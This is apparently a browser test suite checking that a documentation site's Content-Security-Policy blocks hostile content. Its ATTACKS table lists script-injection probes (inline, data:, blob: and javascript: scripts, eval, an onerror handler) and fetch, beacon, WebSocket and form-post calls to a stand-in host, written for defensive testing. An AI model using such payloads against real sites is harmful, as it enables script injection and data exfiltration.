"""The Content-Security-Policy holds on every kind of page, over HTTP and from disk: Chromium says so."""

import pytest
from helpers import SEED_SLUGS

pytestmark = pytest.mark.browser

WAIT = 60_000
PAGE = f"errors/{SEED_SLUGS[0]}/"
# What hostile HTML would try; each gives the directive that stops it, or "ran".
ATTACKS = {
    "script": ("script-src-elem", "add('script', {textContent: 'window.ran = true'})"),
    "foreign script": ("script-src-elem", "add('script', {src: 'https://guide.invalid/x.js'})"),
    "data script": ("script-src-elem", "add('script', {src: 'data:text/javascript,window.ran=true'})"),
    "blob script": ("script-src-elem", "add('script', {src: URL.createObjectURL(new Blob(['window.ran = true']))})"),
    "handler": ("script-src-attr", "add('div', {innerHTML: '<img src=data:, onerror=\"window.ran = true\">'})"),
    "script address": ("script-src-elem", "add('a', {href: 'javascript:window.ran = true'}).click()"),
    "eval": ("script-src", "try { eval('window.ran = true') } catch {}"),
    "Function": ("script-src", "try { new Function('window.ran = true')() } catch {}"),
    "timer": ("script-src", "try { setTimeout('window.ran = true') } catch {}"),
    "style": ("style-src-elem", "add('style', {textContent: 'body { display: none }'})"),
    "style attribute": ("style-src-attr", "add('div', {innerHTML: '<p style=\"display: none\">'})"),
    "picture": ("img-src", "add('img', {src: 'https://guide.invalid/x.png'})"),
    "font": ("font-src", "new FontFace('x', 'url(https://guide.invalid/x.woff)').load().catch(() => {})"),
    "frame": ("frame-src", "add('iframe', {src: 'https://guide.invalid/'})"),
    "data frame": ("frame-src", "add('iframe', {src: 'data:text/html,<script>1</script>'})"),
    "object": ("object-src", "add('object', {data: 'https://guide.invalid/x.swf'})"),
    "video": ("media-src", "add('video', {src: 'https://guide.invalid/x.mp4'})"),
    "request": ("connect-src", "fetch('https://guide.invalid/?what=pasted').catch(() => {})"),
    "beacon": ("connect-src", "navigator.sendBeacon('https://guide.invalid/', 'pasted')"),
    "socket": ("connect-src", "try { new WebSocket('wss://guide.invalid/') } catch {}"),
    "worker": ("worker-src", "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}"),
    "base": ("base-uri", "add('base', {href: 'https://guide.invalid/'})"),
    "form": ("form-action", "add('form', {action: 'https://guide.invalid/', method: 'post'}).submit()"),
}  # fmt: skip
# From a timer: what the debugger itself evaluates is exempt from the policy.
TRY = """attack => new Promise(resolve => {
    const add = (name, values) => {
        const made = Object.assign(document.createElement(name), values);
        document.body.append(made);
        return made;
    };
    addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective), {once: true});
    window.doneTrying = () => setTimeout(() => resolve(window.ran ? 'ran' : 'nothing stopped it'), 1000);
    setTimeout(() => { ATTACK; window.doneTrying(); });
})"""


def kinds(site):
    """Every page but the records', and two of those."""
    for file in sorted(site.rglob("*.html")):
        path = file.relative_to(site).as_posix()
        if not path.startswith("errors/") or path.count("/") != 2 or any(slug in path for slug in SEED_SLUGS):
            yield path.removesuffix("index.html")


def test_no_kind_of_page_breaks_its_policy(open_page, site):
    page = open_page()
    seen = list(kinds(site))
    assert len(seen) > 20
    for path in seen:
        page.goto(open_page.address + path)
        page.wait_for_timeout(100)  # for what the page does once it is there
        policies = page.locator("head > meta[http-equiv='Content-Security-Policy']")
        assert policies.count() == 1, path
        text = policies.get_attribute("content")
        assert "unsafe-inline" not in text, path
        assert ("unsafe-eval" in text) == path.endswith("frame.html"), path


def test_following_links_breaks_no_policy(open_page):
    ways = ("matrix/", PAGE, "check/", "errors/by/tag/", "releases/", "errors/", "matrix/")
    page = open_page()
    listed = "".join(f"<url><loc>{open_page.address}{path}</loc></url>" for path in ("", *ways))
    # Material swaps in what the sitemap lists, and it lists nothing where no `site_url` is set.
    page.route(
        "**/sitemap.xml", lambda route: route.fulfill(content_type="text/xml", body=f"<urlset>{listed}</urlset>")
    )
    page.reload()
    page.wait_for_load_state("networkidle")
    page.evaluate("window.stayed = true")
    for name in ways:
        page.evaluate(
            """address => { const link = document.createElement('a'); link.href = address;
                            document.body.append(link); link.click(); }""",
            open_page.address + name,
        )
        page.wait_for_url(open_page.address + name)
        page.locator("article h1").wait_for()
        page.wait_for_load_state("networkidle")
    assert page.evaluate("window.stayed"), "Material swapped the pages in"


def test_search_colours_and_copying_work_under_the_policy(open_page):
    page = open_page(PAGE)
    page.locator("label[for=__palette_1]").click()
    page.reload()
    assert page.evaluate("document.body.dataset.mdColorScheme") == "default"
    page.keyboard.press("/")
    page.keyboard.type("replayssm")
    page.locator(".md-search-result__item a, #guide-results a").first.wait_for(timeout=WAIT)


@pytest.mark.parametrize("name", ATTACKS)
def test_what_is_put_into_a_page_does_not_run(open_page, name):
    directive, attack = ATTACKS[name]
    page = open_page(PAGE)
    assert page.evaluate(TRY.replace("ATTACK", attack)) == directive
    assert not page.evaluate("Boolean(window.ran)")
    open_page.errors.clear()
    open_page.foreign.clear()  # Chromium announces what it then blocks


def test_python_runs_nowhere_but_in_a_sandbox(open_page):
    page = open_page(PAGE)
    ready = """sandbox => new Promise(resolve => {
        addEventListener('message', () => resolve(true));
        setTimeout(() => resolve(false), 2000);
        const frame = document.createElement('iframe');
        if (sandbox) frame.setAttribute('sandbox', 'allow-scripts');
        frame.src = new URL('data/check/frame.html', guidePython.ROOT);
        document.body.append(frame);
    })"""
    assert not page.evaluate(ready, False)
    assert page.evaluate(ready, True)


def test_another_site_cannot_frame_the_guide(chromium, address):
    page = chromium.new_page()
    page.route("**/outside", lambda route: route.fulfill(content_type="text/html", body=f"<iframe src='{address}'>"))
    framed = {}
    for host in ("127.0.0.1", "localhost"):
        page.goto(address.replace("127.0.0.1", host) + "outside")  # which waits for the frame, too
        framed[host] = [frame.url for frame in page.frames[1:]]
    assert framed == {"127.0.0.1": [address], "localhost": ["chrome-error://chromewebdata/"]}
    page.close()


def test_a_copy_on_disk_has_the_same_policy(chromium, site):
    page = chromium.new_page()
    errors, foreign = [], []
    page.on("console", lambda message: errors.append(message.text) if "Security Policy" in message.text else None)
    page.on("request", lambda request: None if request.url.startswith(("file:", "data:")) else foreign.append(request))
    for path in kinds(site):
        file = site / path
        page.goto((file / "index.html" if file.is_dir() else file).as_uri())
        page.wait_for_load_state("load")
    assert errors == []
    page.goto((site / PAGE / "index.html").as_uri())
    assert page.evaluate(TRY.replace("ATTACK", ATTACKS["script"][1])) == "script-src-elem"
    page.close()
    assert foreign == []
